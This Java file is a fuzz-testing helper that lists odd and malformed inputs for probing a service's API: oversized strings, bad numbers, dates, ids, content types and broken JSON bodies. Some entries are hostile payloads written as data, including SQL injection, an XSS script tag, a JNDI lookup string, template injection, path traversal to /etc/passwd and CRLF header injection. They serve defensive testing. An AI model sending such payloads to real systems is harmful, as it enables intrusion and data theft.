package cn.zhangzhou.partybuilding.testing.fuzz;

import java.util.List;

/**
 * The odd values the fuzzer puts where a request has a value: strings, numbers (as JSON tokens, some not JSON at
 * all), ids, dates, query values, content types and malformed bodies. {@link #INVALID_UTF8} stands for bytes that are
 * not UTF-8; {@link Json#bytes} writes them.
 */
final class Odd {

    /** Replaced by the bytes {@code FF C0 AF} (not UTF-8: an invalid start byte and an overlong '/') when sent. */
    static final String INVALID_UTF8 = "\uE0FF";

    static final List<String> STRINGS = List.of("", " ", "\t\r\n", "x".repeat(256), "长".repeat(1_000),
            "x".repeat(5_000), "y".repeat(70_000), "\u0000", "a\u0000b", "\u0001\u0007\u001b[31m\u007f",
            "\u2028\u2029", "\u202Eevil\u202C", "مرحبا بالعالم", "שלום", "👨‍👩‍👧‍👦🏳️‍🌈", "e\u0301".repeat(200),
            "\uFEFF\u200B", "' OR '1'='1", "'; DROP TABLE member; --", "%_\\", "$$; select pg_sleep(1); $$",
            "\"}{\"a\":1", "\\u0000", "[]{}", "<script>alert(1)</script>", "&lt;&#0;&amp;", "${jndi:ldap://x/a}",
            "{{7*7}}", "../../etc/passwd", "NaN", "null", "true", "-1", "1e309", INVALID_UTF8 + "abc",
            "\uD83D\uDE00\uD83D", "\uDC00", "漳州市" + "\u0000".repeat(3));

    /** JSON tokens where a number goes: huge, negative, fractions, exponents, NaN/Infinity spelt several ways. */
    static final List<String> NUMBERS = List.of("-1", "0", "-0", "1.5", "0.0000001", "1e2", "1E+400", "-1e400",
            "1e-400", "9223372036854775808", "-9223372036854775809", "2147483648", "-2147483649",
            "99999999999999999999999999999999999999", "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "NaN", "Infinity",
            "-Infinity", "0x10", "01", "1_000", "\"12\"", "\"1e3\"", "\"\"", "true", "null", "[]", "{}");

    /** Ids that are no UUID at all (so a service can never find them). */
    static final List<String> NOT_IDS = List.of("not-a-uuid", "1", "-1", "0", "null", "undefined", "{id}",
            "' OR '1'='1", "a".repeat(2_000), "\u0000", "👀", "00000000-0000-0000-0000-00000000000g",
            "12345678-1234-1234-1234-1234567890123", "12345678123412341234123456789012", "%", "%%32%65",
            "\u202E1234", INVALID_UTF8, "x;y=z", "$", "*");

    /** Path segments sent as they are (already percent-encoded or a dot segment): only on reads. */
    static final List<String> RAW_SEGMENTS = List.of("%00", "%2F", "%2e%2e", "..", ".", "%20",
            "%E2%80%AE", ";jsessionid=1", "a%0D%0AX-Injected:%201");

    static final List<String> DATES = List.of("2026-13-45", "2026-02-30", "9999-12-31", "0000-01-01",
            "+10000-01-01", "-999999999-01-01", "yesterday", "", "2026-06-01T25:00:00Z", "1970-01-01T00:00:00Z",
            "2026-06-01T00:00:00+25:00", "20260601", "1e9");

    static final List<String> BOOLEANS = List.of("\"maybe\"", "1", "0", "\"yes\"", "\"TRUE\"", "null", "[]");

    /** Query values where a page number or size goes (and anything numeric). */
    static final List<String> PAGING = List.of("-1", "0", "1e9", "1000000000", "2147483648", "99999999999999999999",
            "abc", "", "0.5", "-0", "NaN", "%00", "1%00");

    /** Extra query parameters nobody declared. */
    static final List<String> EXTRA_QUERY = List.of("sort=name,desc", "sort=unknownField", "sort=%27%3Bdrop",
            "page=-1", "size=1e9", "size=-5", "page=1&page=2", "a%5Bb%5D=1", "%00=1", "=", "&&", "fields=*",
            "callback=alert");

    /** Content types that are not JSON: a body sent with one of them is refused, whatever it holds. */
    static final List<String> NOT_JSON = List.of("text/plain", "application/x-www-form-urlencoded",
            "application/xml", "multipart/form-data; boundary=fuzz", "application/octet-stream", "image/png");

    /** JSON with a twist in its content type: some are fine, some are not. */
    static final List<String> JSON_TYPES = List.of("application/json; charset=UTF-16",
            "application/json; charset=ISO-8859-1", "application/json; charset=bogus", "application/json;charset=\"utf-8\"",
            "APPLICATION/JSON", "application/json; boundary=x", "application/problem+json", "application/vnd.zz+json",
            "application/json; charset=UTF-32BE", "application/json;;;");

    /** Whole bodies that are not a JSON object: each refused wherever an object is expected. */
    static final List<String> NOT_AN_OBJECT = List.of("[]", "[{}]", "\"text\"", "42", "true", "{", "}", "{]",
            "{'a':1}", "{a:1}", "{\"a\":1,}", "/* c */ {}", "{\"a\" 1}", "[".repeat(5_000) + "]".repeat(5_000),
            "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000), "\u0000", INVALID_UTF8 + "{}", "{" + INVALID_UTF8);

    static final List<String> TRAILING = List.of("garbage", "}", "{}", "\u0000", " // comment", ",", "\n\n{\"a\":1}");

    static final List<String> IDEMPOTENCY_KEYS = List.of("", "k".repeat(1_000), "../../x", "' OR 1=1 --", "%00",
            "\"quoted\"", "a b c");

    private Odd() {
    }
}
